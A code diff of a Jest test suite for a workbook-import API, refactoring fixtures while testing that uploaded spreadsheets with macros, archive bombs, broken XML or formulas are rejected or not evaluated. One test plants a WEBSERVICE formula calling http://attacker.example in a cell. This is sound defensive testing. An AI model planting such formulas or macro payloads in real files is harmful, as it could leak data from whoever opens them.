@@ -2,11 +2,11 @@ import { ENDPOINTS, type FrameworkPreview } from '@impact-call/contracts';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { CFB, read, utils, write, type WorkSheet } from 'xlsx';
 import { anApplicant } from '../../../test/fixtures.ts';
-import { packedArchive, type HostileEntry } from '../../../test/hostile-archives.ts';
+import { packedArchive } from '../../../test/hostile-archives.ts';
 import { compoundFile, docx, pdf, plainZip, png, text } from '../../../test/sample-files.ts';
 import { malformed } from '../../../test/malformed.ts';
 import { ANNA, GIULIA, startTestApi, type TestApi } from '../../../test/test-api.ts';
-import { FRAMEWORK_COLUMNS } from './columns.ts';
+import { FULL_ROW, HEADERS, partsOf } from '../../../test/workbooks/framework-workbook.ts';
 import { previewOf } from './preview.ts';
 import { MAX_ROWS } from './read-sheets.ts';
 
@@ -32,26 +32,11 @@ async function send(file: Buffer, language = 'en', sender = token, field = 'File
     },
     payload: Buffer.concat([Buffer.from(head), file, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)]),
   });
+  expect(answer.headers['content-type']).toMatch(/^application\/(problem\+)?json/);
   const body: FrameworkPreview & { code?: string; errors?: { code: string }[] } = answer.json();
   return { status: answer.statusCode, body, refusal: [answer.statusCode, body.errors?.[0]?.code ?? body.code] };
 }
 
-const HEADERS = Object.values(FRAMEWORK_COLUMNS);
-const FULL = [
-  'More jobs',
-  'After training',
-  8,
-  'Contracts',
-  'Of a year',
-  'Cost of unemployment',
-  9800.5,
-  'Statistics',
-  'https://www.istat.it',
-  0.25,
-  '30 %',
-  0,
-  '0,1',
-];
 const STAKEHOLDERS = [['Name', 'Description'], ['Participants', 'Who take part'], ['Families']];
 
 const STAKEHOLDER = { name: 'Stakeholder', rows: [['Name'], ['S']] };
@@ -81,7 +66,7 @@ const at = (row: number, column: string, code: string) => ['Impact framework', r
 
 describe('a framework file', () => {
   it.each(['xlsx', 'biff8'] as const)('is read whole from %s, and can be created as it is', async (type) => {
-    const { status, body } = await send(frameworkBook([FULL], type));
+    const { status, body } = await send(frameworkBook([FULL_ROW], type));
     expect(status).toBe(200);
     expect(body).toEqual({
       problems: [],
@@ -264,7 +249,7 @@ describe('a framework file', () => {
   });
 
   it('takes the stored value of a formula, computes nothing, and names errors', async () => {
-    const sheet = utils.aoa_to_sheet([HEADERS, FULL, ['B', '', 3, 'i', '', 'p', 1]]);
+    const sheet = utils.aoa_to_sheet([HEADERS, FULL_ROW, ['B', '', 3, 'i', '', 'p', 1]]);
     sheet['G2'] = { t: 'n', v: 42, f: 'WEBSERVICE("http://attacker.example")' };
     sheet['D3'] = { t: 'e', v: 23, w: '#REF!' };
     const { body } = await send(book({ 'Impact framework': sheet, Stakeholder: STAKEHOLDERS }));
@@ -369,7 +354,7 @@ describe('a framework file', () => {
 describe('the rows of a preview', () => {
   it('are those with problems, as they stand in the file', async () => {
     const { body } = await send(
-      frameworkBook([FULL, ['A', '', 4, 'i', '', 'p', 'about ten'], ['', '', 18, 'x'.repeat(300), '', 'p', 1]]),
+      frameworkBook([FULL_ROW, ['A', '', 4, 'i', '', 'p', 'about ten'], ['', '', 18, 'x'.repeat(300), '', 'p', 1]]),
     );
     expect(body.rows.map(({ sheet, row }) => [sheet, row])).toEqual([
       ['Impact framework', 3],
@@ -400,7 +385,11 @@ describe('an export', () => {
 
   it('is the workbook that the import reads as the same framework, in the reader’s language', async () => {
     const { body: first } = await send(
-      frameworkBook([FULL, ['More jobs', '', '', 'Contracts', '', '=1+1', ''], ['Health', '', 3, 'i', '', 'p', 0.1]]),
+      frameworkBook([
+        FULL_ROW,
+        ['More jobs', '', '', 'Contracts', '', '=1+1', ''],
+        ['Health', '', 3, 'i', '', 'p', 0.1],
+      ]),
     );
     const { outcomes, stakeholders } = first;
     const id = await create({ name: { it: 'Lavoro', en: 'Work' }, description: 'd', outcomes, stakeholders });
@@ -413,7 +402,7 @@ describe('an export', () => {
   });
 
   it('is of the version that is named, and of nothing that is not there', async () => {
-    const { body } = await send(frameworkBook([FULL]));
+    const { body } = await send(frameworkBook([FULL_ROW]));
     const id = await create({ name: 'n', description: 'd', outcomes: body.outcomes, stakeholders: body.stakeholders });
     expect((await exportOf(id, { version: 1 })).answer.statusCode).toBe(200);
     expect((await exportOf(id, { version: 2 })).answer.statusCode).toBe(404);
@@ -461,16 +450,7 @@ describe('the template', () => {
 });
 
 describe('what is no framework file', () => {
-  const parts = (file: Buffer): HostileEntry[] => {
-    const archive = CFB.read(file, { type: 'buffer' });
-    return archive.FullPaths.flatMap((path: string, index: number) => {
-      const content = archive.FileIndex[index]?.content;
-      return content && content.length > 0
-        ? [{ name: path.replace(/^Root Entry\//, ''), data: Buffer.from(content as Uint8Array) }]
-        : [];
-    });
-  };
-  const good = () => parts(frameworkBook([FULL]));
+  const good = () => partsOf(frameworkBook([FULL_ROW]));
   const ZEROS = Buffer.alloc(40_000_000);
 
   it('is packed and unpacked by this test as well: the archives below are good but for one thing', async () => {
@@ -515,7 +495,7 @@ describe('what is no framework file', () => {
       () => packedArchive([...good(), { name: 'xl/vbaProject.bin', data: Buffer.from('x') }]),
       [415, 'file-type-not-accepted'],
     ],
-    ['a file cut short', () => frameworkBook([FULL]).subarray(0, 3000), [415, 'file-type-not-accepted']],
+    ['a file cut short', () => frameworkBook([FULL_ROW]).subarray(0, 3000), [415, 'file-type-not-accepted']],
     [
       'broken XML',
       () =>
@@ -542,7 +522,7 @@ describe('what is no framework file', () => {
   });
 
   it('is a workbook with macros, an old one too', async () => {
-    const workbook = CFB.read(frameworkBook([FULL], 'biff8'), { type: 'buffer' });
+    const workbook = CFB.read(frameworkBook([FULL_ROW], 'biff8'), { type: 'buffer' });
     CFB.utils.cfb_add(workbook, '/_VBA_PROJECT_CUR/VBA/dir', Buffer.from('x'.repeat(600)));
     expect((await send(CFB.write(workbook, { type: 'buffer' }) as Buffer)).refusal).toEqual([
       415,
@@ -551,8 +531,8 @@ describe('what is no framework file', () => {
   });
 
   it('needs a part called File, and an administrator', async () => {
-    expect((await send(frameworkBook([FULL]), 'en', token, 'Other')).status).toBe(400);
-    expect((await send(frameworkBook([FULL]), 'en', (await anApplicant(api, GIULIA)).token)).body.code).toBe(
+    expect((await send(frameworkBook([FULL_ROW]), 'en', token, 'Other')).status).toBe(400);
+    expect((await send(frameworkBook([FULL_ROW]), 'en', (await anApplicant(api, GIULIA)).token)).body.code).toBe(
       'admin-only',
     );
   });
